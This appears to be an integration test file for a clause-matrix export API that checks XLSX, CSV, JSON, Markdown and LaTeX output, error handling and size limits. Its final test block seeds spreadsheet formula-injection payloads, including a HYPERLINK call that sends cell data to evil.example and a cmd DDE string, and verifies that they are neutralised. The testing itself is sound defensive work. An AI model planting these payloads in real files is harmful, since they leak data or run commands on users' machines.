/** GET /api/export against a seeded database, every format read back by an independent reader. */
import ExcelJS from "exceljs";
import * as exportRoute from "@/app/api/export/route";
import * as schemaRoute from "@/app/api/export/schema/route";
import * as matrixRoute from "@/app/api/documents/[id]/matrix/route";
import { SCORE_COLOURS } from "@/lib/domain/export/table";
import { getCurrentReleaseId } from "@/lib/data/releases.repository";
import { EXPORT_MAX_CELLS } from "@/lib/server/export/table-export";
import { XLSX_ABOUT_SHEET, XLSX_HEADER_FILL, XLSX_TABLE_SHEET } from "@/lib/server/export/xlsx";
import { expectErrorShape } from "../../helpers/error-shape";
import { setupTestDb } from "../../helpers/test-db";
import {
  compileLatex,
  createAjv,
  describeWithPdflatex,
  readCsvRecords,
  readExportJson,
  readMarkdownTable,
  readXlsx,
  tableOfCsv,
  unescapeMarkdown,
} from "../../unit/domain/export/readers";

const { db } = setupTestDb("seeded");

const PLAN = "us-28-2025-11-20";
const E3 = "e3-counter-2025-11-23";

function get(search: string, headers: Record<string, string> = {}): Promise<Response> {
  return exportRoute.GET(new Request(`http://localhost/api/export?${search}`, { headers }), undefined);
}

async function getMatrixJson(search: string) {
  const response = await matrixRoute.GET(new Request(`http://localhost/api/documents/${PLAN}/matrix?${search}`), {
    params: Promise.resolve({ id: PLAN }),
  });
  return (await response.json()).data as {
    rows: {
      number: string;
      title: { text: string };
      cells: { partyId: string; score: number | null; label: string }[];
    }[];
    parties: { id: string; name: { text: string } }[];
  };
}

type TJsonExport = {
  title: string;
  lang: string;
  meta: { key?: string; label: string; value: string }[];
  columns: { key: string; label: string; kind: string }[];
  rows: Record<string, string | number | null>[];
};

const metaOf = (json: TJsonExport, key: string) => json.meta.find((m) => m.key === key)?.value;
const fillOf = (cell: ExcelJS.Cell) =>
  cell.fill?.type === "pattern" && cell.fill.pattern === "solid" ? cell.fill.fgColor?.argb : undefined;

describe("GET /api/export?view=matrix", () => {
  it("exports the 28-point matrix to XLSX: styled frozen header, matrix colours, scores as numbers, an About sheet", async () => {
    const response = await get(`view=matrix&format=xlsx&document=${PLAN}`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe(
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    );
    const today = new Date().toISOString().slice(0, 10);
    expect(response.headers.get("content-disposition")).toContain(`filename="redlines_${PLAN}_matrix_${today}.xlsx"`);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect(Number(response.headers.get("content-length"))).toBe(bytes.byteLength);

    const workbook = await readXlsx(bytes);
    const sheet = workbook.getWorksheet(XLSX_TABLE_SHEET)!;
    expect(sheet.views[0]).toMatchObject({ state: "frozen", xSplit: 1, ySplit: 1 });
    expect(sheet.rowCount).toBe(29);
    const header = sheet.getRow(1);
    expect(header.getCell(1).value).toBe("Clause");
    expect(fillOf(header.getCell(1))).toBe(XLSX_HEADER_FILL);
    expect(header.getCell(4).value).toBe("Ukraine");
    expect(header.getCell(5).value).toBe("Ukraine (score)");
    const row21 = sheet.getRow(22);
    expect(row21.getCell(1).value).toBe("21");
    expect(row21.getCell(4).value).toBe("Crosses red line");
    expect(fillOf(row21.getCell(4))).toBe(`FF${SCORE_COLOURS.crosses.fill}`);
    expect(row21.getCell(5).value).toBe(-2);
    expect(row21.getCell(5).type).toBe(ExcelJS.ValueType.Number);
    expect(row21.getCell(6).value).toBe("Territory");

    const about = workbook.getWorksheet(XLSX_ABOUT_SHEET)!;
    const lines = new Map<string, string>();
    about.eachRow((row) => lines.set(String(row.getCell(1).value), String(row.getCell(2).value ?? "")));
    const release = await getCurrentReleaseId(db());
    expect(lines.get("Document")).toContain(PLAN);
    expect(lines.get("Filters")).toBe("none");
    expect(lines.get("Dataset release")).toBe(release);
    expect(lines.get("Exported at")).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    expect(lines.get("How to cite")).toContain(`Dataset release ${release}`);
    expect(lines.get("Permalink")).toBe(`http://localhost/documents/${PLAN}/matrix`);
  });

  it("exports CSV exactly as the view shows it: filters, visible parties, sort and language, with the page's cells", async () => {
    const search = "dimension=territory&party=ua,ru&sort=conflict&lang=ja";
    const response = await get(`view=matrix&format=csv&document=${PLAN}&${search}`);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    const [header, ...rows] = tableOfCsv(text);
    expect(header).toEqual([
      "条項",
      "見出し",
      "論点",
      "ウクライナ",
      "ウクライナ（スコア）",
      "ウクライナ：該当するレッドライン",
      "ロシア",
      "ロシア（スコア）",
      "ロシア：該当するレッドライン",
    ]);
    const view = await getMatrixJson(search);
    expect(rows.map((r) => r[0])).toEqual(view.rows.map((r) => r.number));
    expect(rows.map((r) => [r[1], r[3], r[4], r[6], r[7]])).toEqual(
      view.rows.map((r) => [
        r.title.text,
        r.cells[0].label,
        r.cells[0].score === null ? "" : String(r.cells[0].score),
        r.cells[1].label,
        r.cells[1].score === null ? "" : String(r.cells[1].score),
      ]),
    );
    const preamble = readCsvRecords(text).slice(0, 12);
    expect(preamble.find((r) => r[0] === "絞り込み条件")?.[1]).toBe("dimension=territory; party=ua,ru; sort=conflict");
    expect(preamble.find((r) => r[0] === "固定リンク")?.[1]).toBe(
      `http://localhost/ja/documents/${PLAN}/matrix?dimension=territory&party=ua%2Cru&sort=conflict`,
    );
  });

  it("writes CSV without BOM when asked, and without preamble in the plain profile", async () => {
    const noBom = new Uint8Array(await (await get(`view=matrix&format=csv&document=${PLAN}&bom=0`)).arrayBuffer());
    expect(Buffer.from(noBom.subarray(0, 3)).toString("utf8")).toBe("US ");
    const plain = await (await get(`view=matrix&format=csv&document=${PLAN}&profile=plain`)).text();
    const records = readCsvRecords(plain);
    expect(records[0][0]).toBe("Clause");
    expect(records).toHaveLength(29);
  });

  it("exports JSON valid against its schema; all=1 ignores the row filters but keeps the parties", async () => {
    const filtered = readExportJson<TJsonExport>(
      await (await get(`view=matrix&format=json&document=${PLAN}&dimension=territory&party=ua`)).text(),
    );
    expect(filtered.rows).toHaveLength(5);
    expect(filtered.rows.find((r) => r.number === "21")).toMatchObject({
      "ua:label": "Crosses red line",
      "ua:score": -2,
    });
    const all = readExportJson<TJsonExport>(
      await (await get(`view=matrix&format=json&document=${PLAN}&dimension=territory&party=ua&all=1`)).text(),
    );
    expect(all.rows).toHaveLength(28);
    expect(all.columns.map((c) => c.key)).toEqual([
      "number",
      "heading",
      "topics",
      "ua:label",
      "ua:score",
      "ua:redLines",
    ]);
    expect(metaOf(all, "filters")).toMatch(/^party=ua; all rows/);
  });

  it("exports a GFM Markdown table marked reads, and LaTeX with the same rows", async () => {
    const markdown = await (await get(`view=matrix&format=md&document=${PLAN}&lang=ja`)).text();
    const table = readMarkdownTable(markdown);
    expect(table.rows).toHaveLength(28);
    expect(table.header[3]).toBe("ウクライナ");
    expect(table.rows[20].slice(0, 1)).toEqual(["21"]);
    expect(table.rows[20][3]).toBe("レッドラインを越える");
    const tex = await (await get(`view=matrix&format=tex&document=${PLAN}`)).text();
    expect(tex).toMatch(/^\\documentclass/m);
    expect(tex.match(/ \\\\$/gm)?.length).toBe(28 + 2);
  });

  it("states each file's document, filters and export time in every format", async () => {
    const search = `view=matrix&document=${PLAN}&dimension=territory`;
    for (const format of ["csv", "json", "md", "tex"]) {
      const raw = await (await get(`${search}&format=${format}`)).text();
      const text = format === "md" ? unescapeMarkdown(raw) : raw;
      expect([
        format,
        text.includes(PLAN),
        text.includes("territory"),
        /\d{4}-\d{2}-\d{2}T\d{2}:\d{2}/.test(text),
      ]).toEqual([format, true, true, true]);
    }
  });

  it.each([
    ["format=csv&document=us-28-2025-11-20", "view"],
    ["view=matrix&document=us-28-2025-11-20", "format"],
    ["view=matrix&format=pdf&document=us-28-2025-11-20", "format"],
    ["view=matrix&format=csv", "document"],
    ["view=matrix&format=csv&document=us-28-2025-11-20&dimension=weather", "dimension"],
    ["view=matrix&format=csv&document=us-28-2025-11-20&party=xx", "party"],
    ["view=matrix&format=csv&document=us-28-2025-11-20&asOf=2025-13-01", "asOf"],
    ["view=matrix&format=csv&document=us-28-2025-11-20&coder=nobody", "coder"],
    ["view=matrix&format=csv&document=us-28-2025-11-20&lang=de", "lang"],
    ["view=matrix&format=xlsx&document=us-28-2025-11-20&bom=1", "bom"],
    ["view=matrix&format=csv&document=us-28-2025-11-20&bogus=1", "bogus"],
    ["view=compare&format=csv&from=us-28-2025-11-20", "to"],
    ["view=compare&format=csv&from=us-28-2025-11-20&to=e3-counter-2025-11-23&party=xx", "party"],
  ])("answers 400 for %s, naming '%s'", async (search, parameter) => {
    const response = await get(search);
    expect(response.status).toBe(400);
    expectErrorShape(await response.json(), "BAD_REQUEST", new RegExp(`'${parameter}'`));
  });

  it("answers 404 for an unknown document", async () => {
    for (const search of [
      "view=matrix&format=csv&document=no-such-doc",
      `view=compare&format=csv&from=${PLAN}&to=no-such-doc`,
    ]) {
      const response = await get(search);
      expect(response.status).toBe(404);
      expectErrorShape(await response.json(), "NOT_FOUND", /no-such-doc/);
    }
  });

  it("serves the JSON Schema the JSON export validates against", async () => {
    const response = await schemaRoute.GET(new Request("http://localhost/api/export/schema"), undefined);
    expect(response.headers.get("content-type")).toBe("application/schema+json; charset=utf-8");
    const schema = await response.json();
    const validate = createAjv().compile(schema);
    const json: unknown = JSON.parse(await (await get(`view=matrix&format=json&document=${PLAN}`)).text());
    expect(validate(json)).toBe(true);
    expect(validate({ ...(json as object), rows: "none" })).toBe(false);
  });

  it("builds permalinks on the address the client used, behind a proxy too", async () => {
    const json = readExportJson<TJsonExport>(
      await (
        await get(`view=matrix&format=json&document=${PLAN}`, {
          "x-forwarded-host": "redlines.example.org",
          "x-forwarded-proto": "https",
        })
      ).text(),
    );
    expect(metaOf(json, "permalink")).toBe(`https://redlines.example.org/documents/${PLAN}/matrix`);
  });
});

describe("GET /api/export?view=compare", () => {
  it("exports the aligned pairs: the reference alignments, then proposals for the clauses they leave", async () => {
    const json = readExportJson<TJsonExport>(
      await (await get(`view=compare&format=json&from=${PLAN}&to=${E3}`)).text(),
    );
    const reference = await db().alignment.count({ where: { fromDocumentId: PLAN, toDocumentId: E3 } });
    expect(json.rows.filter((r) => r.origin === "reference")).toHaveLength(reference);
    const proposed = json.rows.filter((r) => r.origin === "proposed");
    expect(proposed.length).toBeGreaterThan(0);
    expect(proposed.every((r) => typeof r.confidence === "number")).toBe(true);
    const clauses = await db().clause.count({ where: { documentId: PLAN } });
    expect(new Set(json.rows.map((r) => r.fromNumber).filter((n) => n !== null)).size).toBe(clauses);
    const r21 = json.rows.find((r) => r.fromNumber === "21");
    expect(r21).toMatchObject({ toNumber: "21", relation: "modified", origin: "reference" });
    expect(String(r21?.diff)).toMatch(/\[-.+-\]/);
    expect(String(r21?.diff)).toMatch(/\{\+.+\+\}/);
    expect(metaOf(json, "permalink")).toBe(
      `http://localhost/api/export?view=compare&format=json&from=${PLAN}&to=${E3}`,
    );
  });

  it("keeps only what touches the party's red lines for party=ua, and all=1 brings every pair back", async () => {
    const all = readExportJson<TJsonExport>(await (await get(`view=compare&format=json&from=${PLAN}&to=${E3}`)).text());
    const ua = readExportJson<TJsonExport>(
      await (await get(`view=compare&format=json&from=${PLAN}&to=${E3}&party=ua`)).text(),
    );
    expect(ua.rows.length).toBeGreaterThan(0);
    expect(ua.rows.length).toBeLessThan(all.rows.length);
    expect(ua.rows.every((r) => typeof r.redLines === "string" && r.redLines !== "")).toBe(true);
    expect(ua.rows.find((r) => r.fromNumber === "21")?.redLines).toContain("Territory");
    const again = readExportJson<TJsonExport>(
      await (await get(`view=compare&format=json&from=${PLAN}&to=${E3}&party=ua&all=1`)).text(),
    );
    expect(again.rows).toHaveLength(all.rows.length);
  });

  it("reads in the other direction with the relations turned round", async () => {
    const json = readExportJson<TJsonExport>(
      await (await get(`view=compare&format=json&from=${E3}&to=${PLAN}&lang=ja`)).text(),
    );
    expect(json.rows.find((r) => r.toNumber === "3")).toMatchObject({ fromNumber: null, relation: "追加" });
    expect(json.title).toContain("→");
  });

  it("exports CSV and Markdown with the diff markers intact", async () => {
    const csv = await (await get(`view=compare&format=csv&from=${PLAN}&to=${E3}&profile=plain`)).text();
    const records = readCsvRecords(csv);
    const md = readMarkdownTable(await (await get(`view=compare&format=md&from=${PLAN}&to=${E3}`)).text());
    expect(md.rows).toEqual(records.slice(1));
  });
});

describeWithPdflatex("the LaTeX export compiled by pdflatex", () => {
  it("compiles the 28-point matrix in Japanese and the comparison in English", async () => {
    for (const search of [`view=matrix&document=${PLAN}&lang=ja`, `view=compare&from=${PLAN}&to=${E3}`]) {
      const compiled = compileLatex(await (await get(`${search}&format=tex`)).text());
      expect([search, compiled.errors, compiled.missing, compiled.status, compiled.pdf]).toEqual([
        search,
        [],
        [],
        0,
        true,
      ]);
    }
  });
});

describe("formula injection", () => {
  const DOC = "injection-test-2026-01-01";
  const PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
  ];

  beforeAll(async () => {
    const releaseId = (await getCurrentReleaseId(db()))!;
    await db().document.create({
      data: {
        id: DOC,
        ordinal: 900,
        title: "=cmd|' /C calc'!A0",
        date: "2026-01-01",
        origin: "test",
        completeness: "full",
        releaseId,
      },
    });
    await db().clause.createMany({
      data: PAYLOADS.map((heading, ordinal) => ({
        id: `${DOC}#${ordinal + 1}`,
        documentId: DOC,
        number: String(ordinal + 1),
        ordinal,
        heading,
        text: "text",
      })),
    });
  });

  it("neutralises text starting with = + - @ or tab in the spreadsheet CSV, and keeps it exact in the plain one", async () => {
    const spreadsheet = tableOfCsv(await (await get(`view=matrix&format=csv&document=${DOC}`)).text());
    expect(spreadsheet.slice(1).map((r) => r[1])).toEqual(PAYLOADS.map((p) => `'${p}`));
    const plain = readCsvRecords(await (await get(`view=matrix&format=csv&document=${DOC}&profile=plain`)).text());
    expect(plain.slice(1).map((r) => r[1])).toEqual(PAYLOADS);
  });

  it("stores the same text as text, never as a formula, in XLSX", async () => {
    const workbook = await readXlsx(
      new Uint8Array(await (await get(`view=matrix&format=xlsx&document=${DOC}`)).arrayBuffer()),
    );
    const sheet = workbook.getWorksheet(XLSX_TABLE_SHEET)!;
    PAYLOADS.forEach((payload, i) => {
      const cell = sheet.getCell(i + 2, 2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(payload);
    });
  });
});

describe("large exports", () => {
  const DOC = "synthetic-large-2026-01-01";
  const CLAUSES = Math.ceil(EXPORT_MAX_CELLS / 18) + 100;

  beforeAll(async () => {
    const releaseId = (await getCurrentReleaseId(db()))!;
    await db().document.create({
      data: {
        id: DOC,
        ordinal: 901,
        title: "Synthetic",
        date: "2026-01-01",
        origin: "test",
        completeness: "full",
        releaseId,
      },
    });
    const rows = Array.from({ length: CLAUSES }, (_, ordinal) => ({
      id: `${DOC}#${ordinal + 1}`,
      documentId: DOC,
      number: String(ordinal + 1),
      ordinal,
      heading: `Clause ${ordinal + 1}, "quoted"`,
      text: "text",
    }));
    for (let i = 0; i < rows.length; i += 2000) await db().clause.createMany({ data: rows.slice(i, i + 2000) });
  });

  it(`answers 413 with a clear message over ${EXPORT_MAX_CELLS.toLocaleString("en")} cells`, async () => {
    const response = await get(`view=matrix&format=csv&document=${DOC}`);
    expect(response.status).toBe(413);
    expectErrorShape(
      await response.json(),
      "PAYLOAD_TOO_LARGE",
      new RegExp(`more than the ${EXPORT_MAX_CELLS.toLocaleString("en")} one table export may hold`),
    );
  });

  it("streams a large CSV under the cap in many chunks", async () => {
    const response = await get(`view=matrix&format=csv&document=${DOC}&party=ua&profile=plain`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-length")).toBeNull();
    const reader = response.body!.getReader();
    const chunks: Uint8Array[] = [];
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks.push(value);
    }
    expect(chunks.length).toBeGreaterThan(5);
    const records = readCsvRecords(Buffer.concat(chunks).toString("utf8"));
    expect(records).toHaveLength(CLAUSES + 1);
    expect(records[CLAUSES]).toEqual([String(CLAUSES), `Clause ${CLAUSES}, "quoted"`, "", "", "", ""]);
  });
});
